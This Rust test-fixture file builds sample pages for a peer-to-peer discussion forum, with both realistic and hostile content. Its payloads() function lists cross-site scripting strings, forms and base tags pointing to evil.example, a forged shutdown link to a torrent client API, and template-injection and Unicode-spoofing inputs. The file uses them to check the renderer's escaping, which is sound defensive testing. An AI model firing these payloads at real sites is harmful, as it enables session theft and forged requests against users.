//! Every page with sample values, for the tests and for `examples/gallery.rs`.
#![allow(dead_code, missing_docs, clippy::unwrap_used)]

use upseed_model::{
    BoardName, Infohash, PublicKey, Reachability, WorkId,
    moderation::{KeepRetracted, LabelAction, LabelActions},
    rank::{Sort, Window},
};
use upseed_view::{
    boards::{self, BoardRow, BoardsPage},
    composer::{self, Composer, To},
    error::{self, ErrorPage},
    front::{self, FrontPage, Tried},
    inbox::{self, InboxPage},
    kept::{self, SavedPage},
    labels::{self, Counts, LabelsPage, LogLine, Preview, Target},
    links::ThreadSort,
    me::{self, Hosting, MePage, Place, Profile, Settings},
    moderation::{self, ExceptionOf, ModerationPage},
    moderators::ModeratorRow,
    open::{self, OpenPage},
    people::{self, PersonPage},
    retract,
    search::{self, Hit, SearchPage},
    share::{self, SharePage},
    starters::{self, MyStarters, StarterPage, StarterRow},
    thread::{self, Reply, ThreadView},
    welcome,
    why::{self, PlaceView, Through, WhyView},
    *,
};

pub const NOW: u64 = 1_795_375_518;

/// What people wrote; each list is walked in a circle.
pub struct Words {
    pub titles: Vec<String>,
    pub names: Vec<String>,
    pub texts: Vec<String>,
    pub lines: Vec<String>,
    pub boards: Vec<BoardName>,
}

fn at(list: &[String], n: usize) -> String {
    list[n % list.len()].clone()
}

pub fn id(n: usize) -> Infohash {
    let mut bytes = [0; 20];
    let mut state = (n as u64 + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15);
    for byte in &mut bytes {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        *byte = state as u8;
    }
    Infohash::from_bytes(bytes)
}

pub fn key(n: usize) -> PublicKey {
    let mut bytes = [7; 32];
    bytes[..20].copy_from_slice(id(n + 1_000).as_bytes());
    PublicKey::from_bytes(bytes).unwrap()
}

impl Words {
    pub fn realistic() -> Self {
        let own = |list: &[&str]| list.iter().map(|text| text.to_string()).collect();
        Self {
            titles: own(&[
                "A 1970s paper on garbage collection that still explains it best",
                "Ask: how do you keep a small home server quiet at night?",
                "The library of our town has put its sound archive online, 4,000 hours of it",
                "Notes from building a shortwave receiver out of junk",
                "كيف تُصنع الأقلام القصبية",
                "Why do bakeries open so early? A history",
                "RFC 9999 and what it means for people who run their own mail",
                "Show: a map of every bench in the city, made by walking",
                "Sourdough, four years later: what I would do differently",
                "日本の古い時計職人についての短い記録",
                "The night shift at the observatory: what the instruments hear when the telescopes are closed for the weather, and why somebody should write it all down",
                "Small tools",
            ]),
            names: own(&[
                "alice",
                "Bao",
                "",
                "Ćirić",
                "dana_k",
                "ليلى",
                "someone with quite a long display name",
                "gus",
                "山田",
                "you",
            ]),
            texts: own(&[
                "I read it again last week and was surprised how little has changed. The part about *tri-colour marking* is clearer than anything written since.\n\nTwo things to look at:\n\n- the figure on page 7\n- the footnote that says \"this will be solved by 1980\"\n\nSource: https://example.org/papers/gc-1976.pdf and [a summary](https://blog.example.net/2019/gc).",
                "> still explains it best\n\nNot quite. It says nothing about generations, which came later.",
                "Thank you, I had been looking for this for years.",
                "We measured it:\n\n```\nidle      21 dB\nnight     19 dB\nbackup    34 dB\n```\n\nMost of it was the disks. Rubber feet did more than the new fan.",
                "شكراً لك، هذا مفيد جداً. https://example.org/قلم",
                "Agreed.",
                "There is a longer version of this argument in the second chapter, where the author admits that the numbers were made up for the talk and measured only afterwards; they turned out to be **almost right**, which is either luck or a very good feeling for machines.",
            ]),
            lines: own(&[
                "off topic",
                "I have been writing small tools since 1998.",
                "the client says: disk full",
            ]),
            boards: ["upseed", "science", "old-machines", "bread", "radio"]
                .map(|name| name.parse().unwrap())
                .into(),
        }
    }

    /// Every payload in turn, in every place.
    pub fn hostile() -> Self {
        let all = payloads();
        let short = |length| -> Vec<String> {
            all.iter().map(|text| text.chars().take(length).collect()).collect()
        };
        let boards = ["a".repeat(40), "w".repeat(40), "0-".repeat(20)];
        Self {
            titles: short(300),
            names: short(64),
            texts: all.clone(),
            lines: short(200),
            boards: boards.iter().map(|name| name.parse().unwrap()).collect(),
        }
    }

    pub fn person(&self, n: usize) -> Person {
        let relation = match n % 7 {
            0 => Relation::You,
            1 | 2 => Relation::Followed,
            5 if n.is_multiple_of(2) => Relation::Muted,
            _ => Relation::Stranger,
        };
        let name = if n.is_multiple_of(7) && self.names.len() > 5 {
            "robin".into()
        } else {
            at(&self.names, n)
        };
        Person { key: key(n % 31), name, relation }
    }

    pub fn item(&self, n: usize) -> ItemView {
        let mut item = ItemView {
            id: id(n),
            board: self.boards[n % self.boards.len()],
            title: Some(at(&self.titles, n)),
            parent: None,
            root: None,
            author: self.person(n + 1),
            time: NOW - (n as u64 * n as u64 * 211 + 90) % 4_000_000,
            votes: 3 + n as u32 * 7 % 90,
            comments: (n as u32 * 37) % 120,
            hosts: Hosts {
                seen: Some(1 + n as u32 * 5 % 40),
                verified: u32::from(n % 3 == 1),
                verified_at: (n % 3 == 1).then_some(NOW - 200),
            },
            vote: Vote::None,
            text: Text::Known(at(&self.texts, n)),
            labels: vec![],
            hidden_by_reader: n % 17 == 4,
            saved: n % 11 == 2,
            own: n % 7 == 6,
            asks: false,
            fold: None,
            unread: false,
        };
        match n % 13 {
            1 => item.vote = Vote::Hosting,
            3 => item.vote = Vote::Fetching(Some(40)),
            4 => item.vote = Vote::Wanted,
            6 => item.vote = Vote::Failed(at(&self.lines, 2)),
            7 => item.hosts = Hosts::default(),
            8 => item.vote = Vote::HostedOnly,
            9 => item.labels.push(LabelView {
                by: self.person(n),
                value: at(&self.lines, 0),
                reason: at(&self.lines, 1),
                action: LabelAction::Fold,
            }),
            10 => item.vote = Vote::Fetching(None),
            11 => item.vote = Vote::Stopping,
            12 => item.vote = Vote::StoppedMuted,
            _ => {}
        }
        item
    }

    pub fn comment(&self, n: usize) -> ItemView {
        let item = self.item(n + 200);
        ItemView {
            title: None,
            parent: Some(id(3)),
            root: Some((id(0), (!n.is_multiple_of(5)).then(|| at(&self.titles, 0)))),
            comments: 0,
            ..item
        }
    }

    pub fn why(&self) -> WhyView {
        WhyView {
            through: (1..4)
                .map(|n| Through {
                    person: self.person(n),
                    voted: n != 2,
                    others: n as u32 - 1,
                    capped: n == 1,
                    adds: 1.0 / n as f64,
                })
                .collect(),
            strangers: 41,
            networks: 17,
            strangers_add: 1.25,
            muted: 1,
            mine: true,
            follows: 12,
            provisional: 0,
            place: Some(PlaceView {
                window: Window::Week,
                number: Some(3),
                without_strongest: Some(14),
            }),
            score: 1.0 + 1.0 / 2.0 + 1.0 / 3.0 + 1.25,
            follows_nobody: false,
        }
    }

    pub fn thread(&self) -> ThreadView {
        let depths = [0, 1, 2, 3, 1, 0, 1, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 0];
        let mut replies: Vec<Reply> = depths
            .iter()
            .enumerate()
            .map(|(n, depth)| Reply {
                depth: *depth,
                item: self.comment(n),
                below: if n == 4 { 12 } else { n as u32 % 3 },
                more: if n == 4 { 12 } else { 0 },
            })
            .collect();
        replies[5].item.text = Text::Nobody;
        replies[5].item.fold = Some(Fold::Unhosted);
        replies[7].item.fold = Some(Fold::Label);
        replies[8].item.text = Text::Coming;
        replies[6].item.fold = Some(Fold::Muted);
        let mut item = self.item(0);
        item.vote = Vote::Hosting;
        ThreadView {
            item,
            why: Some(self.why()),
            magnet: format!("magnet:?xt=urn:btih:{}", id(0)),
            draft: at(&self.lines, 0),
            can_label: true,
            replies,
            total: 202,
            sort: ThreadSort::New,
            more: Some((181, "c22".into())),
        }
    }

    pub fn front(&self, count: usize) -> FrontPage {
        FrontPage {
            query: ListQuery { window: Window::Week, ..ListQuery::default() },
            items: (0..count).map(|n| self.item(n)).collect(),
            first: 1,
            more: Some("50".into()),
            unknown: None,
            is_stale: false,
            hidden: 3,
            joined: true,
            syncing: None,
            starters: vec![],
            follows_nobody: false,
            suggestions: vec![],
            moderators: vec![],
            tried: Tried::default(),
        }
    }

    pub fn starter(&self, n: usize) -> StarterRow {
        StarterRow {
            id: WorkId::from_bytes([n as u8; 32]),
            name: at(&self.titles, n),
            author: self.person(n + 3),
            boards: self.boards.iter().take(1 + n % 2).copied().collect(),
            people: 1 + 7 * n as u32,
        }
    }

    pub fn settings() -> Settings {
        Settings {
            theme: Theme::Auto,
            is_compact: true,
            client_budget: Some(500),
            history_days: 30,
            additions_are_votes: Some(false),
            announce_me: Some(true),
        }
    }

    /// Every page, with a name for its file.
    pub fn pages(&self, site: &Site<'_>) -> Vec<(&'static str, String)> {
        let board = self.boards[1];
        let mut on_board = site.clone();
        on_board.board = Some(board);
        on_board.here = format!("b/{board}");
        let mut fresh = site.clone();
        fresh.has_key = false;
        fresh.asks_name = true;
        fresh.vote_agreed = false;
        fresh.joined = self.boards[..1].to_vec();
        fresh.unread = 0;
        fresh.status = Status::default();
        let mut flashed = site.clone();
        flashed.flash = Some(Flash::Followed);
        let mut crowded = site.clone();
        crowded.is_compact = true;
        crowded.joined = (0..40).map(|n| n.to_string().parse().unwrap()).collect();

        let mut front = self.front(20);
        front.items[9].fold = Some(Fold::Label);
        front.items[18].fold = Some(Fold::Unhosted);
        front.items[19].fold = Some(Fold::Unhosted);
        let mut moderated = self.front(2);
        let moderator =
            |(n, through)| ModeratorRow { person: self.person(n), through, follows: 12 };
        moderated.moderators = [(3, 7), (4, 1)].map(moderator).to_vec();
        moderated.moderators.push(ModeratorRow { follows: 1, ..moderator((5, 1)) });
        moderated.query = ListQuery { board: Some(board), ..ListQuery::default() };
        let mut alone = self.front(6);
        alone.suggestions = (3..7).map(|n| self.person(n)).collect();
        alone.starters = (0..3).map(|n| self.starter(n)).collect();
        alone.query =
            ListQuery { board: Some(board), sort: Sort::Hot, hidden: true, ..ListQuery::default() };
        alone.joined = false;
        alone.syncing = Some(40);
        let empty = FrontPage {
            items: vec![],
            tried: Tried { dht_nodes: 214, people: 0, seconds: 40 },
            hidden: 0,
            more: None,
            query: ListQuery { board: Some(board), window: Window::All, ..ListQuery::default() },
            ..self.front(0)
        };
        let nothing = FrontPage { tried: Tried::default(), ..empty.clone() };

        let thread = self.thread();
        let mut inner = self.thread();
        inner.item = self.comment(50);
        inner.why = None;
        inner.item.text = Text::Retracted;
        inner.item.author.relation = Relation::You;
        let bare = ThreadView {
            replies: vec![],
            more: None,
            item: ItemView { comments: 0, text: Text::Dead, ..self.item(2) },
            ..self.thread()
        };

        let post = Composer::post(Some(&board));
        let draft = Composer {
            title: at(&self.titles, 0),
            text: at(&self.texts, 0),
            name: at(&self.names, 0),
            preview: true,
            error: Some(at(&self.lines, 2)),
            ..Composer::post(Some(&board))
        };
        let answer =
            Composer { text: at(&self.texts, 1), preview: true, ..Composer::new(To::Reply(id(3))) };

        let edit = Composer { replaces: Some(id(4)), preview: false, error: None, ..draft.clone() };
        let following = FrontPage {
            items: vec![],
            follows_nobody: true,
            query: ListQuery { followed: true, ..ListQuery::default() },
            ..self.front(0)
        };
        let saved =
            SavedPage { items: vec![self.item(2), self.comment(13)], more: Some("30".into()) };
        let opened = OpenPage {
            pasted: at(&self.lines, 1),
            item: Some(id(7)),
            error: Some(at(&self.lines, 2)),
        };
        let shared = SharePage {
            id: id(1),
            text: at(&self.texts, 0),
            with_address: true,
            addresses: vec!["192.0.2.7:6881".into(), "[2001:0::7]:6881".into()],
        };

        let person = PersonPage {
            person: self.person(1),
            about: at(&self.lines, 1),
            boards: self.boards.clone(),
            earlier: vec![(key(77), NOW - 90_000)],
            followed_by: vec![self.person(2), self.person(9)],
            labels_used: true,
            has_labels: true,
            wrote: Wrote::Posts,
            items: (0..8).map(|n| ItemView { author: self.person(1), ..self.item(n) }).collect(),
            more: Some("8".into()),
        };
        let stranger = PersonPage {
            person: Person { name: String::new(), relation: Relation::Ended, ..self.person(3) },
            about: String::new(),
            boards: vec![],
            earlier: vec![],
            followed_by: vec![],
            labels_used: false,
            has_labels: true,
            wrote: Wrote::Comments,
            items: (0..5).map(|n| self.comment(n)).collect(),
            more: None,
        };

        let boards = BoardsPage {
            joined: self
                .boards
                .iter()
                .enumerate()
                .map(|(n, name)| BoardRow {
                    name: *name,
                    people: n as u32 * 3,
                    items: n as u32 * 977,
                    newest: (n != 3).then_some(NOW - n as u64 * 9_000),
                    syncing: (n == 2).then_some(60),
                })
                .collect(),
            seen: self.boards.iter().map(|name| (*name, 4)).collect(),
            typed: at(&self.lines, 0),
            error: Some(at(&self.lines, 2)),
        };
        let inbox = InboxPage {
            replies: (0..6).map(|n| ItemView { unread: n < 2, ..self.comment(n) }).collect(),
            retracted: vec![self.item(4), self.comment(5)],
            more: Some("6".into()),
        };
        let target = |n: usize| match n % 4 {
            0 => Target::Item(id(n), Some(at(&self.titles, n))),
            1 => Target::Item(id(n), None),
            2 => Target::Person(self.person(n)),
            _ => Target::Gone,
        };
        let values = [at(&self.lines, 0), at(&self.lines, 1)];
        let labels = LabelsPage {
            labeller: self.person(1),
            subscribed: true,
            actions: LabelActions::default(),
            values: values.into_iter().zip([1, 12_345]).collect(),
            preview: Preview {
                hide: Counts { posts: 214, followed: 3, hosted: 1, hidden: 0 },
                fold: Counts { posts: 1, followed: 1, hosted: 0, hidden: 1 },
                mark: Counts::default(),
            },
            log: (0..8)
                .map(|n| LogLine {
                    number: n as u64,
                    target: target(n),
                    value: at(&self.lines, n),
                    reason: if n % 3 == 0 { String::new() } else { at(&self.lines, n + 1) },
                    action: LabelAction::ALL[n % 4],
                    at: NOW - n as u64 * 7_000,
                    undone: n == 2,
                })
                .collect(),
            more: Some("5".into()),
            error: Some(at(&self.lines, 2)),
        };
        let unknown = LabelsPage {
            subscribed: false,
            preview: Preview::default(),
            values: vec![],
            log: vec![],
            more: None,
            error: None,
            ..labels.clone()
        };
        let moderation = ModerationPage {
            subscriptions: vec![(self.person(1), 12_345), (self.person(2), 1)],
            mutes: vec![self.person(3)],
            hidden: vec![self.item(1), self.comment(2)],
            exceptions: vec![
                (target(0), ExceptionOf::Item("00ab".into())),
                (target(2), ExceptionOf::Person(key(2))),
            ],
            retracted: vec![self.item(5)],
            keep_retracted: KeepRetracted::Ask,
        };
        let search = SearchPage {
            words: at(&self.lines, 0),
            board: Some(board),
            hits: (0..5)
                .map(|n| Hit {
                    item: if n % 2 == 0 { self.item(n) } else { self.comment(n) },
                    snippet: vec![
                        ("… ".into(), false),
                        (at(&self.lines, n), true),
                        (at(&self.lines, n + 1), false),
                    ],
                })
                .collect(),
            total: Some(12_345),
            more: Some("5".into()),
        };
        let me = MePage {
            key: Some(Profile {
                key: key(0),
                name: at(&self.names, 0),
                about: at(&self.lines, 1),
                backed_up: false,
            }),
            hosting: Hosting {
                items: 12,
                bytes: 31_000,
                in_client: Some(10),
                in_node: 1,
                waiting: 1,
                warnings: vec![at(&self.lines, 3)],
                announced: (9, 12),
            },
            upvoted: [Place::Client, Place::Node, Place::Waiting, Place::Missing, Place::Stopped]
                .into_iter()
                .enumerate()
                .map(|(n, place)| (ItemView { vote: Vote::Hosting, ..self.item(n) }, place))
                .collect(),
            missing: 3,
            removed: vec![(ItemView { vote: Vote::None, ..self.item(9) }, 59)],
            starters: MyStarters {
                lists: vec![self.starter(1)],
                follows: (0..9).map(|n| self.person(n)).collect(),
            },
            settings: Self::settings(),
            feed_token: Some("f00df00df00df00df00d".into()),
            origin: "http://127.0.0.1:7667".into(),
            error: Some(at(&self.lines, 2)),
        };
        let newcomer = MePage {
            key: None,
            feed_token: None,
            upvoted: vec![],
            missing: 0,
            removed: vec![],
            starters: MyStarters::default(),
            error: None,
            hosting: Hosting::default(),
            ..me.clone()
        };
        let words = "abandon ability able about above absent absorb abstract absurd abuse access accident account accuse achieve acid acoustic acquire across act action actor actress actual";
        let oops = |status| ErrorPage {
            status,
            message: at(&self.lines, 2),
            hint: Some(at(&self.lines, 0)),
        };

        vec![
            ("front", front::page(site, &front)),
            ("front-board", front::page(&on_board, &alone)),
            ("front-moderators", front::page(&on_board, &moderated)),
            ("front-empty", front::page(&on_board, &empty)),
            ("front-nothing", front::page(&fresh, &nothing)),
            ("thread", thread::page(site, &thread)),
            ("thread-comment", thread::page(&on_board, &inner)),
            ("thread-bare", thread::page(&fresh, &bare)),
            ("why", why::page(site, &self.item(1), &self.why())),
            (
                "why-nobody",
                why::page(
                    site,
                    &self.item(1),
                    &WhyView {
                        through: vec![],
                        strangers: 0,
                        muted: 0,
                        mine: false,
                        follows: 0,
                        place: None,
                        score: 0.0,
                        follows_nobody: true,
                        ..self.why()
                    },
                ),
            ),
            ("front-crowded", front::page(&crowded, &front)),
            ("front-following", front::page(site, &following)),
            ("saved", kept::saved(site, &saved)),
            ("saved-nothing", kept::saved(site, &SavedPage::default())),
            ("following", kept::following(site, &[1, 2, 3].map(|n| self.person(n)))),
            ("following-nobody", kept::following(site, &[])),
            ("retract", retract::page(site, &self.item(2))),
            ("retract-comment", retract::page(site, &self.comment(2))),
            ("open", open::page(site, &opened)),
            ("open-again", open::page(site, &OpenPage { item: None, ..opened.clone() })),
            ("open-new", open::page(site, &OpenPage { error: None, ..opened.clone() })),
            ("share", share::page(site, &shared)),
            (
                "share-nowhere",
                share::page(site, &SharePage { addresses: vec![], ..shared.clone() }),
            ),
            ("share-bare", share::page(site, &SharePage { with_address: false, ..shared.clone() })),
            ("edit", composer::page(site, &edit, None)),
            ("write", composer::page(&fresh, &post, None)),
            ("write-preview", composer::page(&on_board, &draft, None)),
            ("reply", composer::page(site, &answer, Some(&self.comment(3)))),
            ("person", people::page(&flashed, &person)),
            (
                "starter",
                starters::page(
                    site,
                    &StarterPage {
                        list: self.starter(1),
                        people: (0..9).map(|n| self.person(n)).collect(),
                    },
                ),
            ),
            ("person-stranger", people::page(site, &stranger)),
            ("boards", boards::page(site, &boards)),
            ("boards-none", boards::page(&fresh, &BoardsPage::default())),
            ("inbox", inbox::page(site, &inbox)),
            ("inbox-none", inbox::page(&fresh, &InboxPage::default())),
            ("labels", labels::page(site, &labels)),
            ("labels-unknown", labels::page(site, &unknown)),
            ("moderation", moderation::page(site, &moderation)),
            ("moderation-none", moderation::page(&fresh, &ModerationPage::default())),
            ("search", search::page(site, &search)),
            (
                "search-none",
                search::page(
                    site,
                    &SearchPage { words: at(&self.lines, 0), ..SearchPage::default() },
                ),
            ),
            ("me", me::page(site, &me)),
            ("me-new", me::page(&fresh, &newcomer)),
            ("backup", me::backup(site, words)),
            ("welcome", welcome::page(&fresh)),
            ("first-vote", welcome::first_vote(&fresh, &self.item(0))),
            ("error", error::page(site, &oops(500))),
            ("error-missing", error::page(site, &oops(404))),
            ("error-signed-out", error::page(&fresh, &oops(401))),
        ]
    }
}

pub fn site<'a>(links: &'a Links, strings: &'a Strings, words: &Words) -> Site<'a> {
    Site {
        links,
        strings,
        now: NOW,
        page_token: "0123456789abcdef0123456789abcdef",
        here: "t/abc?after=1".into(),
        board: None,
        joined: words.boards.clone(),
        is_compact: false,
        theme: Theme::Auto,
        has_key: true,
        vote_agreed: true,
        unread: 2,
        status: Status {
            client: "qBittorrent 5.1.4".into(),
            client_there: true,
            hosted: 12,
            asked: 2,
            met: 4,
            dht_nodes: 214,
            reachable: Reachability::Upnp,
            outside_port: 51_413,
            clock: None,
        },
        feed: Some(links.feed(&FeedOf::Inbox, "f00d")),
        since: Some(7),
        asks_name: false,
        visited: Some("b/garden".into()),
        flash: None,
    }
}

/// So many comments, some deeper than others.
pub fn replies(words: &Words, count: usize) -> Vec<Reply> {
    (0..count).map(|n| Reply { depth: n % 9, item: words.comment(n), below: 0, more: 0 }).collect()
}

/// What somebody may try.
pub fn payloads() -> Vec<String> {
    let mut all: Vec<String> = [
        "<script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</style><style>*{display:none}</style>",
        "\"><script>alert(1)</script>",
        "' onmouseover='alert(1)",
        "\" autofocus onfocus=\"alert(1)",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<iframe src=javascript:alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data=data:text/html,x>",
        "<embed src=//evil.example>",
        "<base href=//evil.example>",
        "<link rel=stylesheet href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<form action=//evil.example><input name=page_token>",
        "</form><form id=v action=//evil.example>",
        "<button form=v name=up>",
        "<input type=hidden name=page_token value=x>",
        "<details open ontoggle=alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](/api/v2/app/shutdown)",
        "[x](http:/api/v2/app/shutdown)",
        "![x](https://tracker.example/pixel.gif)",
        "<https://a.example/\"onclick=alert(1)>",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<?php",
        "&lt;script&gt;",
        "&#x3c;script&#x3e;",
        "\u{202e}gnp.exe",
        "\u{2066}\u{2067}\u{202b}isolates without end",
        "Z\u{351}\u{36b}\u{343}a\u{35f}\u{360}l\u{331}\u{332}\u{333}g\u{310}\u{311}\u{312}\u{313}o\u{489}\u{489}\u{489}",
        "👩‍👩‍👧‍👦🏳️‍🌈🏴‍☠️👩‍👩‍👧‍👦🏳️‍🌈🏴‍☠️👩‍👩‍👧‍👦🏳️‍🌈🏴‍☠️",
        "you",
        "you\u{200b}",
        "<b class=\"you\">you</b>",
        "followed you",
        "{{7*7}} ${7*7} {}",
        "\u{7f}\u{1}\u{8}control",
        "\u{0}",
        "{} {} {}",
        "\n\n\nlines\n\n",
        "javascript:alert(1)",
    ]
    .map(str::to_owned)
    .into();
    all.push("W".repeat(65_536));
    all.push("> ".repeat(10_000));
    all.push(format!("{}\u{10ffff}", "\u{301}".repeat(5_000)));
    all
}
